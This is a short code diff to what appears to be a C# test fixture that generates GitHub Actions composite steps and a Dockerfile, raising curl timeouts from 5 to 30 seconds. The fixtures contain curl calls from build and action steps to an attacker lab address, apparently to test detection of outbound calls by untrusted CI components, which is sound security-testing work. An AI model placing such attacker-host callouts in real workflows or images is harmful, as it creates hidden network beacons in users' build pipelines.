@@ -42,9 +42,9 @@ internal static class ActionFolder
           using: composite
           steps:
             - id: inner
-              run: curl -sS --max-time 5 ${{ inputs.url }}inner || true
+              run: curl -sS --max-time 30 ${{ inputs.url }}inner || true
               shell: bash
-            - run: curl -sS --max-time 5 ${{ inputs.url }}second || true
+            - run: curl -sS --max-time 30 ${{ inputs.url }}second || true
               shell: sh
             - uses: test/staged@v1
               with:
@@ -78,7 +78,7 @@ internal static class ActionFolder
     private const string Dockerfile = $"""
         FROM ubuntu:latest
         LABEL action=docker
-        RUN curl -sS --max-time 5 http://{LabAddresses.Attacker}/built || true
+        RUN curl -sS --max-time 30 http://{LabAddresses.Attacker}/built || true
         ENTRYPOINT ["/bin/bash", "-c"]
         """;
 
